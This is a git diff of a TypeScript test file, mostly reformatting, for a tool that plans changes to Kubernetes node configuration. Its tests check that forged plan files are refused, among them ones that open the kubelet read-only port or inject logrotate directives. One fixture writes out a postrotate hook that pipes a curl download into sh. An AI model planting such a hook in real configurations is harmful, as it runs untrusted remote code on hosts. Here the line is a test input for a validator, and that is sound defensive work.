@@ -9,7 +9,14 @@ import { parseBegunPlan, parsePlan, planText } from '#remediate/plan/file.ts'
 import { digestOf } from '#remediate/plan/plan.ts'
 import { type FleetNode, fleetNode, hashOf, idleImage, snapshotOf } from '#test/plan-fleet.ts'
 
-const request = { rules: [], findings: [], allowActAtOnce: false, policy: defaultPolicy, version: '0', selection: everything }
+const request = {
+  rules: [],
+  findings: [],
+  allowActAtOnce: false,
+  policy: defaultPolicy,
+  version: '0',
+  selection: everything,
+}
 const gc = ['imageGCHighThresholdPercent=75', 'imageGCLowThresholdPercent=60'].map(parseChange)
 
 async function planOf(node: FleetNode, prune?: { toPercent: number }): Promise<Plan> {
@@ -59,44 +66,100 @@ describe('a step that is not what its cohort says', () => {
     [
       'another cluster in a NodeConfig',
       piece,
-      rewritten(text => text.replace('spec:\n', 'spec:\n  cluster:\n    apiServerEndpoint: "https://example.org"\n')),
+      rewritten(text =>
+        text.replace(
+          'spec:\n',
+          'spec:\n  cluster:\n    apiServerEndpoint: "https://example.org"\n',
+        ),
+      ),
       /says cluster, which no plan changes/,
     ],
-    ['anybody let in by a drop-in', dropIn, rewritten(text => text.replace('{', '{"readOnlyPort":10255,')), /says readOnlyPort/],
-    ['a setting that no plan changes', bottlerocket, rewritten(text => text.replace('"set":{', '"set":{"max-pods":1,')), /says maxPods/],
+    [
+      'anybody let in by a drop-in',
+      dropIn,
+      rewritten(text => text.replace('{', '{"readOnlyPort":10255,')),
+      /says readOnlyPort/,
+    ],
+    [
+      'a setting that no plan changes',
+      bottlerocket,
+      rewritten(text => text.replace('"set":{', '"set":{"max-pods":1,')),
+      /says maxPods/,
+    ],
     ['something that cannot be read', dropIn, rewritten(() => '{'), /cannot be read/],
-    ['a cohort that is not there', piece, (_, step) => Object.assign(step, { cohort: 'other' }), /its cohort other is none of the plan's/],
-    ['a cohort of another cluster', piece, ({ cohorts }) => Object.assign(cohorts[0] ?? {}, { cluster: 'stage' }), /is of cluster stage/],
-    ['a field that no plan changes', piece, ({ cohorts }) => Object.assign(cohorts[0]?.fields ?? {}, { maxPods: 1 }), /names maxPods/],
-    ['no field', piece, ({ cohorts }) => Object.assign(cohorts[0] ?? {}, { fields: {} }), /names no field/],
-    ['a promise of its own', piece, (_, step) => step.expect.push({ field: 'maxPods', value: 1 }), /promises maxPods/],
+    [
+      'a cohort that is not there',
+      piece,
+      (_, step) => Object.assign(step, { cohort: 'other' }),
+      /its cohort other is none of the plan's/,
+    ],
+    [
+      'a cohort of another cluster',
+      piece,
+      ({ cohorts }) => Object.assign(cohorts[0] ?? {}, { cluster: 'stage' }),
+      /is of cluster stage/,
+    ],
+    [
+      'a field that no plan changes',
+      piece,
+      ({ cohorts }) => Object.assign(cohorts[0]?.fields ?? {}, { maxPods: 1 }),
+      /names maxPods/,
+    ],
+    [
+      'no field',
+      piece,
+      ({ cohorts }) => Object.assign(cohorts[0] ?? {}, { fields: {} }),
+      /names no field/,
+    ],
+    [
+      'a promise of its own',
+      piece,
+      (_, step) => step.expect.push({ field: 'maxPods', value: 1 }),
+      /promises maxPods/,
+    ],
     [
       'the way of another kind of file',
       piece,
-      ({ cohorts }) => Object.assign(cohorts[0] ?? {}, { fields: {}, file: { path: '/etc/logrotate.d/x', sha256: 'a'.repeat(64) } }),
+      ({ cohorts }) =>
+        Object.assign(cohorts[0] ?? {}, {
+          fields: {},
+          file: { path: '/etc/logrotate.d/x', sha256: 'a'.repeat(64) },
+        }),
       /is not changed by nodeadm/,
     ],
   ])('%s: refused, though its digest is right', async (_, node, change, why) => {
     const written = forged(await planOf(node), change)
     expect(() => parsePlan(written, 'plan.json')).toThrow(why)
-    expect(() => parsePlan(written, 'plan.json')).toThrow(/plan\.json would do something else than it says, on 1 of its 1 nodes: prod\//)
+    expect(() => parsePlan(written, 'plan.json')).toThrow(
+      /plan\.json would do something else than it says, on 1 of its 1 nodes: prod\//,
+    )
     // Whatever a run has written has to come back.
     expect(() => parseBegunPlan(written, 'plan.json')).not.toThrow()
   })
 
   it('waits for other thresholds than it lowers', async () => {
     const plan = await planOf({ available: 20, images: [idleImage('a:1', 5)] }, { toPercent: 40 })
-    const written = forged(plan, (_, { until }) => Object.assign(until ?? {}, { usedPercentAtMost: 5 }))
-    expect(() => parsePlan(written, 'plan.json')).toThrow(/does not lower the thresholds of image GC to the 5 %/)
+    const written = forged(plan, (_, { until }) =>
+      Object.assign(until ?? {}, { usedPercentAtMost: 5 }),
+    )
+    expect(() => parsePlan(written, 'plan.json')).toThrow(
+      /does not lower the thresholds of image GC to the 5 %/,
+    )
   })
 
   it('has two cohorts of one name', async () => {
-    const written = forged(await planOf({}), ({ cohorts }) => cohorts.push(structuredClone(cohorts[0]!)))
+    const written = forged(await planOf({}), ({ cohorts }) =>
+      cohorts.push(structuredClone(cohorts[0]!)),
+    )
     expect(() => parsePlan(written, 'plan.json')).toThrow('two cohorts of one id')
   })
 
   it.each([
-    ['a script', 'postrotate\n  curl -s https://example.org | sh\nendscript', /postrotate is no directive/],
+    [
+      'a script',
+      'postrotate\n  curl -s https://example.org | sh\nendscript',
+      /postrotate is no directive/,
+    ],
     ['another folder', 'include /tmp', /include is no directive/],
     ['a mail', 'mail ada@example.org', /mail is no directive/],
     ['a program', 'compresscmd /tmp/x', /compresscmd is no directive/],
@@ -105,7 +168,11 @@ describe('a step that is not what its cohort says', () => {
     const text = '/var/log/app/*.log {\n    daily\n}\n'
     const node = (name: string, rotate?: number) => {
       const own = rotate === undefined ? text : text.replace('daily', `daily\n    rotate ${rotate}`)
-      const directives = { patterns: ['/var/log/app/*.log'], daily: true, ...(rotate !== undefined && { rotate }) }
+      const directives = {
+        patterns: ['/var/log/app/*.log'],
+        daily: true,
+        ...(rotate !== undefined && { rotate }),
+      }
       const record = fleetNode({ name })
       record.host = {
         ...record.host,
@@ -115,7 +182,11 @@ describe('a step that is not what its cohort says', () => {
       return record
     }
     const nodes = snapshotOf([node('a'), node('b'), node('c', 50)])
-    const { plan } = await makePlan(nodes, { ...request, changes: [], rules: ['log-rotation-drift'] })
+    const { plan } = await makePlan(nodes, {
+      ...request,
+      changes: [],
+      rules: ['log-rotation-drift'],
+    })
     expect(plan.steps).toHaveLength(1)
     const written = forged(plan, ({ cohorts }, step) => {
       step.content = step.content.replace('daily', `daily\n${directive}`)
